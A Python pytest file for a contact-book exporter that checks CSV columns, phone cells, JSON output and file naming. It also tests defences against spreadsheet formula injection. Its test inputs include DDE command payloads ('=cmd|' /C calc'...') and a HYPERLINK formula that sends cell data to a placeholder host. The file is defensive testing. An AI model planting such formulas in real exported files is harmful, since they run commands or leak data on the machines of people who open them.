"""Tables that no spreadsheet computes, lists that programs read, and files by their names."""

import csv
import datetime as dt
import io
import json
import os
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cardscan.books.entry import BookEntry
from cardscan.books.tables import to_csv, to_json_list
from cardscan.books.vcard import read_vcards
from cardscan.books.write import write_book
from cardscan.contact import Address, Contact, Phone
from cardscan.contract import contact_from_json
from cardscan.door import clean_lines
from cardscan.errors import BookExistsError, UsageError
from tests.proposals import ANA

NOW = dt.datetime(2026, 3, 1, 12, tzinfo=dt.UTC)
UID = "urn:uuid:6a1f0d3e-0c2b-4f5a-9d7e-1b2c3d4e5f60"
NAUGHTY = Path(os.environ.get("CARDSCAN_CORPORA", ""), "text", "blns.json")


def rows_of(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table, newline="")))


def cell_of(text: str) -> str:
    """The cell of a title."""
    (row,) = rows_of(to_csv([BookEntry(Contact(title=text))]))
    return row["title"]


def test_a_row_holds_the_whole_contact() -> None:
    entry = BookEntry(replace(ANA, uid=UID), "Fair 2026", "client", "qualified")
    assert rows_of(to_csv([entry, BookEntry(Contact("Bo"))])) == [
        {
            "full_name": "Dr. Ana María Beispiel-Łoś",
            "prefix": "Dr.",
            "given_name": "Ana",
            "additional_names": "María",
            "family_name": "Beispiel-Łoś",
            "suffix": "MBA",
            "alternative_name": "安娜, 例",
            "title": "Head of Sales, EMEA; acting",
            "department": "Sales",
            "org": 'Example "Straße" GmbH & Co. KG',
            "phone_1": "+493023125000,,12",
            "phone_2": "+491713920000",
            "email_1": "Ana@Example.com",
            "email_2": "ana.beispiel@example.org",
            "url": "https://www.example.com/?q=a,b",
            "handle": "linkedin ana-beispiel\nwechat ana-b",
            "address": "Musterstr. 1, 10115 Berlin",
            "note": "山田電機 – met at the fair\nlikes chess",
            "event": "Fair 2026",
            "track": "client",
            "stage": "qualified",
            "uid": UID,
        },
        dict.fromkeys(HEADER, "") | {"full_name": "Bo", "stage": "prospective"},
    ]


HEADER = [
    *("full_name", "prefix", "given_name", "additional_names", "family_name", "suffix"),
    *("alternative_name", "title", "department", "org", "phone_1", "phone_2", "email_1", "email_2"),
    *("url", "handle", "address", "note", "event", "track", "stage", "uid"),
]


def test_a_table_of_nobody_has_its_names() -> None:
    (line,) = csv.reader(io.StringIO(to_csv([])))
    assert line == [name for name in HEADER if not name.endswith("_2")]


def test_several_addresses_stand_on_lines_of_one_cell() -> None:
    contact = Contact(
        urls=("https://a.example.com", "https://b.example.com"),
        addresses=(Address("Weg 1"), Address("Weg 2")),
    )
    (row,) = rows_of(to_csv([BookEntry(contact)]))
    assert row["url"] == "https://a.example.com\nhttps://b.example.com"
    assert row["address"] == "Weg 1\nWeg 2"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-2*3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!'A1'",
        '"=1"',
        "'=1",
        ";=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "= cmd|' /C calc'!A0",
        '=HYPERLINK("http://x/?d="&A1,"c")',
        "+490000 =1",
    ],
)
def test_what_a_spreadsheet_would_compute_is_marked_as_text(text: str) -> None:
    assert cell_of(text) == f"'{text}"


@pytest.mark.parametrize("start", ["\t", "\r", "\n", " ", "\0", "\u200b"])
def test_nothing_hides_the_start_of_a_formula(start: str) -> None:
    assert cell_of(f"{start}=1") == "'=1"


@pytest.mark.parametrize("text", ["", "Head of R&D", "1+1", "a=b", "C++ (=good)", "'tis", "…"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell_of(text) == text


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        (Phone("+493023125000"), "+493023125000"),
        (Phone("+493023125000", extension="12"), "+493023125000,,12"),
        (Phone("030 / 23125-0"), "030 / 23125-0"),
        (Phone("+1 CALL NOW"), "'+1 CALL NOW"),
        (Phone("+49=1"), "'+49=1"),
        (Phone("=1"), "'=1"),
        (Phone("+49\n=1"), "'+49\n=1"),
        (Phone("+49", extension="x()"), "'+49,,x()"),
    ],
)
def test_phone_numbers_stay_intact_and_nothing_else_passes_for_one(phone: Phone, cell: str) -> None:
    (row,) = rows_of(to_csv([BookEntry(Contact(phones=(phone,)))]))
    assert row["phone_1"] == cell


TEXT = st.text(st.characters(exclude_categories=()), max_size=60)


@settings(deadline=None)
@given(st.lists(st.tuples(TEXT, TEXT, TEXT), max_size=4))
def test_any_text_makes_one_row_of_as_many_cells(texts: list[tuple[str, str, str]]) -> None:
    entries = [
        BookEntry(Contact(name, note=note, emails=(name, note)), event, track=name)
        for name, note, event in texts
    ]
    table = to_csv(entries)
    table.encode()
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert len(rows) == len(entries) + 1
    assert len({len(row) for row in rows}) == 1
    for row, (name, note, _) in zip(rows_of(table), texts, strict=True):
        assert row["full_name"].removeprefix("'") == clean_lines(name).removeprefix("'")
        assert row["note"].removeprefix("'") == clean_lines(note).removeprefix("'")


@pytest.mark.skipif(not NAUGHTY.is_file(), reason="CARDSCAN_CORPORA has no text/blns.json")
def test_naughty_strings_stay_in_their_cells() -> None:
    texts = json.loads(NAUGHTY.read_text(encoding="utf-8"))
    rows = rows_of(to_csv(BookEntry(Contact(text, title=text), text) for text in texts))
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=True):
        assert row["event"].removeprefix("'") == clean_lines(text).removeprefix("'")
        assert not row["title"].startswith(("=", "+", "-", "@"))
        assert None not in row.values()


def test_a_mark_for_excel_only_where_asked() -> None:
    assert to_csv([]).startswith('"full_name"')
    assert to_csv([], "outlook").startswith('\ufeff"Title"')


def test_a_list_holds_what_the_contract_says() -> None:
    contact = replace(ANA, uid=UID, rev="2026-03-01T12:00:00Z")
    (line,) = json.loads(to_json_list([BookEntry(contact, "Fair", "client", "warm")]))
    assert contact_from_json(line.pop("contact")) == replace(contact, uid="", rev="")
    assert line == {
        "uid": UID,
        "rev": "2026-03-01T12:00:00Z",
        "track": "client",
        "stage": "warm",
        "event": "Fair",
    }


def test_a_file_is_written_as_its_name_asks(tmp_path: Path) -> None:
    entries = [BookEntry(Contact("Ana")), BookEntry(Contact("Łoś"))]
    for name in ("a.vcf", "b.CSV", "c.json"):
        assert write_book(tmp_path / name, iter(entries), now=NOW) == 2
        with pytest.raises(BookExistsError):
            write_book(tmp_path / name, entries, now=NOW)
        assert write_book(tmp_path / name, entries, now=NOW, replace=True) == 2
    names = [c.full_name for c in read_vcards(tmp_path / "a.vcf") if isinstance(c, Contact)]
    assert names == ["Ana", "Łoś"]
    table = (tmp_path / "b.CSV").read_bytes().decode()
    assert [row["full_name"] for row in rows_of(table)] == names
    assert len(json.loads((tmp_path / "c.json").read_bytes())) == 2


@pytest.mark.parametrize("name", ["contacts", "contacts.doc", ".vcf"])
def test_a_name_that_tells_no_format_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UsageError, match=r"cannot tell") as refused:
        write_book(tmp_path / name, [], now=NOW)
    assert refused.value.hint == "End the name in one of .vcf, .csv, .xlsx, .json, .ldif, .ics."
    assert list(tmp_path.iterdir()) == []
